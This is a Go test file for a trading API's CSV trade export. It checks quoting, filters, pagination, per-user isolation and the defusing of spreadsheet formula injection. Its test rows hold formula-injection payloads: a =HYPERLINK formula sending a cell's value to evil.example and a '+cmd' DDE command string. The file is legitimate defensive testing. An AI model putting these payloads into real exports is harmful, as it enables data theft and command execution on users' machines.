package httpapi_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"mime"
	"net/http"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/jmoiron/sqlx"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/stc-trading/stc/host/internal/httpapi"
	"github.com/stc-trading/stc/host/internal/store"
	"github.com/stc-trading/stc/host/internal/storetest"
)

// csvHeader is the export's header row.
var csvHeader = []string{"id", "created_at", "opened_at", "expires_at", "closed_at", "account_id", "bot_id", "broker",
	"symbol", "direction", "amount", "expiration_seconds", "status", "open_price", "close_price", "payout_percent", "profit",
	"broker_order_id", "error"}

// readCSV checks an export's headers and parses its body.
func readCSV(t *testing.T, r response) [][]string {
	t.Helper()
	require.Equal(t, http.StatusOK, r.Status, r.Raw)
	mt, params, err := mime.ParseMediaType(r.Header.Get("Content-Type"))
	require.NoError(t, err)
	assert.Equal(t, "text/csv", mt)
	assert.Equal(t, "utf-8", params["charset"])
	disp, dp, err := mime.ParseMediaType(r.Header.Get("Content-Disposition"))
	require.NoError(t, err)
	assert.Equal(t, "attachment", disp)
	assert.Regexp(t, regexp.MustCompile(`^stc-trades-\d{8}-\d{6}\.csv$`), dp["filename"])
	assert.True(t, strings.HasSuffix(r.Raw, "\r\n"), "RFC 4180 ends lines with CRLF")
	rows, err := csv.NewReader(strings.NewReader(r.Raw)).ReadAll()
	require.NoError(t, err)
	require.NotEmpty(t, rows)
	assert.Equal(t, csvHeader, rows[0])
	return rows[1:]
}

// insertTrade writes a trade row of a directly: a symbol, order id and
// error a broker could send, which the paper plugin never would.
func (e *env) insertTrade(a actor, status, symbol, orderID, errText, profit string) int64 {
	e.t.Helper()
	var id int64
	now := time.Now().UnixMilli()
	var p, closed any
	if profit != "" {
		p, closed = profit, now
	}
	require.NoError(e.t, e.st.Update(context.Background(), store.System(), func(tx *sqlx.Tx) error {
		return tx.Get(&id, tx.Rebind(`INSERT INTO trades (user_id, account_id, broker, symbol, direction, amount, expiration_ms, status,
			client_order_id, broker_order_id, error, profit, closed_at, created_at, updated_at)
			VALUES (?, ?, 'paper', ?, 'PUT', '2.5', 60000, ?, ?, ?, ?, ?, ?, ?, ?) RETURNING id`),
			a.id, a.account, symbol, status, "csv-"+randHex(e.t), orderID, errText, p, closed, now, now)
	}))
	return id
}

// TestTradeExportCSV exports real paper trades and rows a hostile broker
// could have produced, on both stores: RFC 4180 quoting, formula cells
// defused, exact numbers, the list's filters, every page of a long
// history once, and nothing of another user's.
func TestTradeExportCSV(t *testing.T) {
	storetest.Each(t, func(t *testing.T, st *store.Store) {
		e := newEnv(t, st, httpapi.RateLimits{PerIP: -1, PerUser: -1, Auth: -1})
		alice, bob := e.register("alice"), e.register("bob")
		e.connectPaper(&alice, "alice-pw-"+randHex(t))
		e.connectPaper(&bob, "bob-pw-"+randHex(t))
		placed := e.settledTrades(alice, [2]string{"EURUSD-OTC", "1.25"}, [2]string{"GBPUSD-OTC", "3"})
		e.settledTrades(bob, [2]string{"EURUSD-OTC", "7"})
		evil := e.insertTrade(alice, "rejected", `=HYPERLINK("http://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0",
			"@SUM(1,2)\r\nsecond line, with a comma", "")
		loss := e.insertTrade(alice, "lost", "-2+3", "\tTAB", "", "-2.5")

		rows := readCSV(t, e.call("GET", "/api/v2/user/trades?format=csv", alice.readKey, ""))
		require.Len(t, rows, 4, "alice's four trades, not bob's")
		byID := map[string][]string{}
		for _, row := range rows {
			require.Len(t, row, len(csvHeader))
			byID[row[0]] = row
		}
		col := func(row []string, name string) string {
			for i, h := range csvHeader {
				if h == name {
					return row[i]
				}
			}
			t.Fatalf("no column %s", name)
			return ""
		}
		assert.Equal(t, strconv.FormatInt(loss, 10), rows[0][0], "newest first, as the list")

		bad := byID[strconv.FormatInt(evil, 10)]
		assert.Equal(t, `'=HYPERLINK("http://evil.example/?"&A1,"click")`, col(bad, "symbol"))
		assert.Equal(t, "'+cmd|' /C calc'!A0", col(bad, "broker_order_id"))
		// (encoding/csv reads the CRLF inside a quoted field as LF.)
		assert.Equal(t, "'@SUM(1,2)\nsecond line, with a comma", col(bad, "error"))
		assert.Equal(t, "rejected", col(bad, "status"))
		assert.Empty(t, col(bad, "profit"), "no profit without a settlement")
		assert.Empty(t, col(bad, "closed_at"))
		// The raw text: quotes doubled inside a quoted field.
		assert.Contains(t, e.call("GET", "/api/v2/user/trades?format=csv", alice.token, "").Raw,
			`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`)

		lost := byID[strconv.FormatInt(loss, 10)]
		assert.Equal(t, "'-2+3", col(lost, "symbol"), "text starting with - is text")
		assert.Equal(t, "'\tTAB", col(lost, "broker_order_id"))
		assert.Equal(t, "-2.5", col(lost, "profit"), "a loss stays a number")
		assert.Equal(t, "2.5", col(lost, "amount"))
		assert.Equal(t, "PUT", col(lost, "direction"))

		for _, tr := range placed {
			row := byID[strconv.FormatInt(jsonID(t, tr["id"]), 10)]
			require.NotNil(t, row, "placed trade %v exported", tr["id"])
			assert.Equal(t, tr["symbol"], col(row, "symbol"))
			assert.Equal(t, tr["status"], col(row, "status"))
			assert.Equal(t, strconv.FormatInt(alice.account, 10), col(row, "account_id"))
			assert.Empty(t, col(row, "bot_id"), "manual")
			assert.Equal(t, "60", col(row, "expiration_seconds"))
			profit, err := strconv.ParseFloat(col(row, "profit"), 64)
			require.NoError(t, err)
			assert.InDelta(t, tr["profit"], profit, 1e-9)
			closed, err := time.Parse(time.RFC3339Nano, col(row, "closed_at"))
			require.NoError(t, err)
			want, err := time.Parse(time.RFC3339, jsonStr(t, tr["closed_at"]))
			require.NoError(t, err)
			assert.True(t, closed.Equal(want), "closed_at %s, want %s", closed, want)
		}
		assert.Equal(t, "1.25", col(byID[strconv.FormatInt(jsonID(t, placed[0]["id"]), 10)], "amount"), "amounts are exact")

		// The list's filters apply.
		rows = readCSV(t, e.call("GET", "/api/v2/user/trades?format=csv&status=rejected", alice.token, ""))
		require.Len(t, rows, 1)
		assert.Equal(t, strconv.FormatInt(evil, 10), rows[0][0])
		rows = readCSV(t, e.call("GET", "/api/v2/user/trades?format=csv&symbol=GBPUSD-OTC", alice.token, ""))
		assert.Len(t, rows, 1)
		rows = readCSV(t, e.call("GET", "/api/v2/user/trades?format=csv&manual=true&from="+
			strconv.FormatInt(time.Now().Add(time.Hour).Unix(), 10), alice.token, ""))
		assert.Empty(t, rows, "a header row and nothing else")

		// Bob's export holds his one trade.
		rows = readCSV(t, e.call("GET", "/api/v2/user/trades?format=csv", bob.token, ""))
		require.Len(t, rows, 1)
		assert.Equal(t, strconv.FormatInt(bob.account, 10), rows[0][5])

		// A long history: every page once, newest first.
		for range 1100 {
			e.insertTrade(bob, "won", "EURUSD-OTC", "", "", "1.7")
		}
		rows = readCSV(t, e.call("GET", "/api/v2/user/trades?format=csv", bob.token, ""))
		require.Len(t, rows, 1101)
		prev := int64(1 << 62)
		for _, row := range rows {
			id, err := strconv.ParseInt(row[0], 10, 64)
			require.NoError(t, err)
			require.Less(t, id, prev, "each trade once, newest first")
			prev = id
		}
	})
}

// TestTradeExportRefusals: what makes no sense for an export is refused
// as JSON before any row is written.
func TestTradeExportRefusals(t *testing.T) {
	e := newEnv(t, storetest.OpenSQLite(t), httpapi.RateLimits{PerIP: -1, PerUser: -1, Auth: -1})
	a := e.register("alice")
	for query, field := range map[string]string{
		"format=xml":                       "format",
		"format=csv&limit=10":              "limit",
		"format=csv&cursor=5":              "cursor",
		"format=csv&status=winning":        "status",
		"format=csv&bot_id=-1":             "bot_id",
		"format=csv&bot_id=2&manual=true":  "manual",
		"format=csv&from=1700000000&to=10": "to",
		"format=csv&symbol=%00":            "symbol",
	} {
		r := e.call("GET", "/api/v2/user/trades?"+query, a.token, "")
		assert.Equal(t, http.StatusBadRequest, r.Status, "%s: %s", query, r.Raw)
		assert.Equal(t, field, jsonObj(t, jsonObj(t, r.JSON["error"])["details"])["field"], fmt.Sprint(query, " ", r.Raw))
	}
	r := e.call("GET", "/api/v2/user/trades?format=csv", "", "")
	assert.Equal(t, http.StatusUnauthorized, r.Status)
	r = e.call("GET", "/api/v2/user/trades?format=json&limit=1", a.token, "")
	assert.Equal(t, http.StatusOK, r.Status, "format=json is the list: %s", r.Raw)
}
